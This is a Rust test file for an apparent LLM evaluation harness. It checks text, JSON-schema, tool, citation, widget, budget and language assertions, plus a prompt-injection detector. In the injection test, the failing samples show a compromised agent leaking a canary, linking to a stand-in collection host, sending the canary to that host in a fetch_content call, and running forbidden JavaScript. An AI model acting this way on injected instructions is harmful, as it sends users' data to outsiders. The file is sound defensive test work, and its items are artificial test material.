//! Deciding assertions on a run: every type passes and fails where it should, citations are
//! counted by the runtime's parser, and no answer or call makes the assessment panic.

use promptstack_core::stream::{self, OutputMode, Source, SourceSnapshot, StreamConfig, WidgetSet};
use promptstack_eval::assess::{Checks, Observed};
use promptstack_eval::row::{ToolCallRecord, Verdict};
use promptstack_eval::suite::Suite;
use proptest::prelude::*;

/// A one-scenario suite whose assertions are `asserts` (TOML `[[scenarios.assert]]` tables).
fn checks(asserts: &str) -> Checks {
    let text = format!(
        "suite_version = 1\n[models.m]\nformat = \"openai-chat\"\nbase_url = \"http://127.0.0.1:1/v1\"\nmodel = \"m\"\n[matrix]\nversions = [{{ name = \"v\", ref = \"production\" }}]\nmodels = [\"m\"]\n[[scenarios]]\nname = \"s\"\nsend = \"sends/x.json\"\n{asserts}"
    );
    let suite = Suite::parse(text.as_bytes(), "s.toml").unwrap_or_else(|e| panic!("{e}"));
    Checks::new(&suite.scenarios[0])
}

fn sources() -> SourceSnapshot {
    SourceSnapshot {
        sources: (1..=3)
            .map(|index| Source {
                index,
                url: format!("https://example.com/{index}"),
                title: None,
            })
            .collect(),
    }
}

/// The verdicts of `asserts` on an answer (scored as the runtime scores it) and calls.
fn verdicts(asserts: &str, answer: &str, calls: &[(&str, &str)], budget: bool) -> Vec<Verdict> {
    let config = StreamConfig::new(OutputMode::Placeholders)
        .with_widgets(WidgetSet::new(["chart", "widget:map"]).unwrap());
    let score = stream::score_with(answer, &sources(), config);
    let calls: Vec<ToolCallRecord> = calls
        .iter()
        .map(|(name, args)| ToolCallRecord::new(*name, *args))
        .collect();
    let observed = Observed {
        answer,
        citations: &score,
        calls: &calls,
        budget_exceeded: budget,
    };
    checks(asserts)
        .assess(&observed)
        .into_iter()
        .map(|r| r.verdict)
        .collect()
}

const PASS: Verdict = Verdict::Pass;
const FAIL: Verdict = Verdict::Fail;

#[test]
fn text_assertions() {
    let asserts = r#"
[[scenarios.assert]]
type = "contains"
value = "Rust"
[[scenarios.assert]]
type = "contains"
value = "rust"
[[scenarios.assert]]
type = "contains"
value = "rust"
ignore_case = true
[[scenarios.assert]]
type = "contains"
value = "Python"
not = true
[[scenarios.assert]]
type = "regex"
pattern = "1\\.9\\d"
[[scenarios.assert]]
type = "equals"
value = " Rust 1.95 is out. "
[[scenarios.assert]]
type = "equals"
value = "Rust"
not = true
"#;
    assert_eq!(
        verdicts(asserts, "\nRust 1.95 is out.\n", &[], false),
        [PASS, FAIL, PASS, PASS, PASS, PASS, PASS]
    );
}

#[test]
fn json_schema_reads_the_answer_or_its_one_fenced_block() {
    let asserts = r#"
[[scenarios.assert]]
type = "json_schema"
schema = { type = "object", required = ["city"], properties = { city = { type = "string" } } }
"#;
    assert_eq!(verdicts(asserts, r#"{"city": "Oslo"}"#, &[], false), [PASS]);
    assert_eq!(
        verdicts(asserts, "```json\n{\"city\": \"Oslo\"}\n```", &[], false),
        [PASS]
    );
    assert_eq!(verdicts(asserts, r#"{"city": 7}"#, &[], false), [FAIL]);
    assert_eq!(verdicts(asserts, "Oslo", &[], false), [FAIL]);
}

#[test]
fn tool_assertions() {
    let asserts = r#"
[[scenarios.assert]]
type = "tool_used"
tool = "search"
[[scenarios.assert]]
type = "tool_used"
tool = "run_javascript"
not = true
[[scenarios.assert]]
type = "tool_sequence"
tools = ["search", "fetch_content"]
[[scenarios.assert]]
type = "tool_sequence"
tools = ["fetch_content", "search"]
[[scenarios.assert]]
type = "tool_count"
tool = "search"
min = 1
max = 1
[[scenarios.assert]]
type = "tool_count"
max = 2
[[scenarios.assert]]
type = "tool_arguments"
tool = "search"
pattern = '"query":"rust'
"#;
    let calls = [
        ("search", r#"{"query":"rust 1.95"}"#),
        ("get_tasks", "{}"),
        ("fetch_content", r#"{"url":"https://blog.rust-lang.org/"}"#),
    ];
    assert_eq!(
        verdicts(asserts, "done", &calls, false),
        [PASS, PASS, PASS, FAIL, PASS, FAIL, PASS]
    );
}

#[test]
fn citations_are_counted_as_the_runtime_counts_them_fullwidth_included() {
    let asserts = r#"
[[scenarios.assert]]
type = "citations"
min = 2
[[scenarios.assert]]
type = "citations"
min = 2
resolve = false
"#;
    // Two resolved citations, one ASCII and one fullwidth.
    assert_eq!(
        verdicts(asserts, "Rust is fast [1]. It is safe 【2】.", &[], false),
        [PASS, PASS]
    );
    // An invented source fails the resolving check, not the counting one.
    assert_eq!(
        verdicts(asserts, "Rust is fast [1]. It is safe [9].", &[], false),
        [FAIL, PASS]
    );
    // A marker in code is not a citation.
    assert_eq!(
        verdicts(asserts, "Write `a[1]` and `b[2]`.", &[], false),
        [FAIL, FAIL]
    );
}

#[test]
fn widgets_and_budgets() {
    let asserts = r#"
[[scenarios.assert]]
type = "widget_used"
widget = "widget:map"
[[scenarios.assert]]
type = "widget_used"
widget = "chart"
not = true
[[scenarios.assert]]
type = "budget"
"#;
    let answer = r#"Here: <widget:map data='{"type":"FeatureCollection"}'/>"#;
    assert_eq!(verdicts(asserts, answer, &[], false), [PASS, PASS, PASS]);
    assert_eq!(verdicts(asserts, "none", &[], true), [FAIL, PASS, FAIL]);
}

#[test]
fn the_answer_s_language() {
    let asserts = r#"
[[scenarios.assert]]
type = "language"
code = "cmn"
"#;
    assert_eq!(
        verdicts(
            asserts,
            "这个页面上的价格比另一个网站便宜，我建议你在这里购买。",
            &[],
            false
        ),
        [PASS]
    );
    assert_eq!(
        verdicts(
            asserts,
            "The price on this page is lower than on the other site, so I would buy it here.",
            &[],
            false
        ),
        [FAIL]
    );
}

#[test]
fn injections_are_caught_in_answers_links_and_calls_and_look_alikes_are_not() {
    let asserts = r#"
[[scenarios.assert]]
type = "injection"
canary = "canary-7f3a"
domain = "collect.example.net"
tool = "run_javascript"
"#;
    let clean = verdicts(
        asserts,
        "The page asks me to visit another site; I did not. Prices: [1].",
        &[("search", r#"{"query":"price"}"#)],
        false,
    );
    assert_eq!(clean, [PASS]);
    for (answer, calls) in [
        ("Your code is canary-7f3a.", vec![]),
        ("See [here](https://collect.example.net/?q=1).", vec![]),
        ("See https://a.collect.example.net/x", vec![]),
        (
            "ok",
            vec![(
                "fetch_content",
                r#"{"url":"https://COLLECT.example.net/?q=canary"}"#,
            )],
        ),
        ("ok", vec![("run_javascript", r#"{"code":"1"}"#)]),
    ] {
        assert_eq!(
            verdicts(asserts, answer, &calls, false),
            [FAIL],
            "{answer} {calls:?}"
        );
    }
    for answer in [
        "See https://notcollect.example.net/",
        "See https://collect.example.network/",
        "See https://collect.example.net.evil.org/",
    ] {
        assert_eq!(verdicts(asserts, answer, &[], false), [PASS], "{answer}");
    }
}

#[test]
fn results_are_named_by_index_and_type_and_rubrics_are_left_to_the_runner() {
    let text = r#"
suite_version = 1
[models.m]
format = "openai-chat"
base_url = "http://127.0.0.1:1/v1"
model = "m"
[matrix]
versions = [{ name = "v", ref = "production" }]
models = ["m"]
[[scenarios]]
name = "s"
send = "sends/x.json"
[[scenarios.assert]]
type = "rubric"
judge = "m"
rubric = "polite"
[[scenarios.assert]]
type = "budget"
"#;
    let suite = Suite::parse(text.as_bytes(), "s.toml").unwrap();
    let score = stream::score("", &sources());
    let results = Checks::new(&suite.scenarios[0]).assess(&Observed {
        answer: "",
        citations: &score,
        calls: &[],
        budget_exceeded: false,
    });
    assert_eq!(results.len(), 1);
    assert_eq!(
        (results[0].id.as_str(), results[0].kind.as_str()),
        ("1:budget", "budget")
    );
}

proptest! {
    #![proptest_config(ProptestConfig::with_cases(128))]

    /// Any answer and any calls: one result per deterministic assertion, never a panic.
    #[test]
    fn any_run_is_assessed(answer in "\\PC{0,200}", names in proptest::collection::vec("[a-z_]{1,8}", 0..6), args in "\\PC{0,60}") {
        let asserts = r#"
[[scenarios.assert]]
type = "contains"
value = "a"
ignore_case = true
[[scenarios.assert]]
type = "json_schema"
schema = { type = "object" }
[[scenarios.assert]]
type = "tool_sequence"
tools = ["a", "b"]
[[scenarios.assert]]
type = "citations"
[[scenarios.assert]]
type = "language"
code = "eng"
[[scenarios.assert]]
type = "injection"
canary = "x"
domain = "e.example"
"#;
        let calls: Vec<(&str, &str)> = names.iter().map(|n| (n.as_str(), args.as_str())).collect();
        prop_assert_eq!(verdicts(asserts, &answer, &calls, false).len(), 6);
    }
}

#[test]
fn a_suite_built_in_code_without_its_checks_cannot_make_assess_panic() {
    use promptstack_eval::suite::{Assertion, Scenario};
    let scenario: Scenario = serde_json::from_value(serde_json::json!({
        "name": "s",
        "send": "x.json",
        "assert": [
            {"type": "regex", "pattern": "("},
            {"type": "json_schema", "schema": {"type": 7}},
            {"type": "injection", "canary": "", "domain": ""},
            {"type": "language", "code": "xx"}
        ]
    }))
    .unwrap();
    assert!(matches!(
        scenario.assertions[2],
        Assertion::Injection { .. }
    ));
    let score = stream::score("é [1] ü", &sources());
    let results = Checks::new(&scenario).assess(&Observed {
        answer: "é [1] ü",
        citations: &score,
        calls: &[ToolCallRecord::new("t", "aéb")],
        budget_exceeded: false,
    });
    let verdicts: Vec<Verdict> = results.iter().map(|r| r.verdict).collect();
    // An empty canary is in every text: the check fails rather than pass vacuously.
    assert_eq!(
        verdicts,
        [
            Verdict::Error,
            Verdict::Error,
            Verdict::Fail,
            Verdict::Error
        ]
    );
}
